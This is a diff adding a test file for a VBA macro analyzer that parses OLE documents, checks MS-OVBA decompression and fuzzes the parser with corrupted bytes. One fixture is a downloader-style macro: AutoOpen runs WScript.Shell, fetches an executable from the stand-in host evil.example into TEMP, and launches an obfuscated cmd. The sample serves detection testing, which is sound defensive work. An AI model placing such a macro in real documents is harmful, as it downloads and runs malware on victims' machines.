@@ -1,0 +1,56 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { buildOle, buildVbaDir, ovbaCompressLiteral } from '../test-support/ole-builder.js';
+import { openOle } from '../ole/index.js';
+import { analyzeMacros, decompressOvba, extractVba } from './index.js';
+
+test('MS-OVBA decompression: literal tokens and a copy token', () => {
+  assert.equal(Buffer.from(decompressOvba(ovbaCompressLiteral('Attribute VB_Name = "x"'))!).toString('latin1'), 'Attribute VB_Name = "x"');
+  // [MS-OVBA] §3.2.3 example: "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa" compressed.
+  const example = Buffer.from(
+    '01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C'.replace(/ /g, ''),
+    'hex',
+  );
+  assert.equal(Buffer.from(decompressOvba(example)!).toString('latin1'), '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa');
+  assert.equal(decompressOvba(Buffer.from([2, 3, 4])), undefined);
+});
+
+test('extracts and analyses macros from a built OLE document', () => {
+  const source = [
+    'Attribute VB_Name = "ThisDocument"',
+    'Sub AutoOpen()',
+    '  Set s = CreateObject("WScript.Shell")',
+    '  URLDownloadToFile 0, "http://evil.example/a.exe", Environ("TEMP") & "\\a.exe", 0, 0',
+    '  s.Run Chr(99) & Chr(109) & Chr(100)',
+    'End Sub',
+  ].join('\r\n');
+  const ole = buildOle({
+    WordDocument: Buffer.alloc(600),
+    'Macros/VBA/dir': ovbaCompressLiteral(buildVbaDir([{ name: 'ThisDocument', textOffset: 10 }])),
+    'Macros/VBA/_VBA_PROJECT': Buffer.from([0xcc, 0x61, 0xff, 0xff, 0, 0, 0]),
+    'Macros/VBA/ThisDocument': Buffer.concat([Buffer.alloc(10, 0xaa), ovbaCompressLiteral(source)]),
+  });
+  const file = openOle(ole)!;
+  assert.ok(file.streams.some((s) => s.path === 'Macros/VBA/dir'));
+  const { modules, hasVbaProject } = extractVba(file);
+  assert.ok(hasVbaProject);
+  assert.equal(modules.length, 1);
+  const analysis = analyzeMacros(modules);
+  assert.deepEqual(analysis.autoExec, ['AutoOpen']);
+  for (const s of ['CreateObject', 'WScript.Shell', 'URLDownloadToFile', 'Environ']) assert.ok(analysis.suspicious.includes(s), s);
+  assert.deepEqual(analysis.urls, ['http://evil.example/a.exe']);
+});
+
+test('hostile OLE bytes never throw', () => {
+  const ole = buildOle({ 'Macros/VBA/dir': ovbaCompressLiteral(buildVbaDir([{ name: 'M' }])), 'Macros/VBA/_VBA_PROJECT': Buffer.alloc(8), 'Macros/VBA/M': ovbaCompressLiteral('Attribute VB_Name = "M"\r\nSub Workbook_Open()\r\nEnd Sub') });
+  let seed = 3;
+  for (let i = 0; i < 1500; i++) {
+    const copy = Buffer.from(ole);
+    for (let k = 0; k < 10; k++) {
+      seed = (seed * 1103515245 + 12345) >>> 0;
+      copy[seed % copy.length] = seed >>> 24;
+    }
+    const file = openOle(copy.subarray(0, copy.length - (seed % 700)));
+    if (file) analyzeMacros(extractVba(file).modules);
+  }
+});
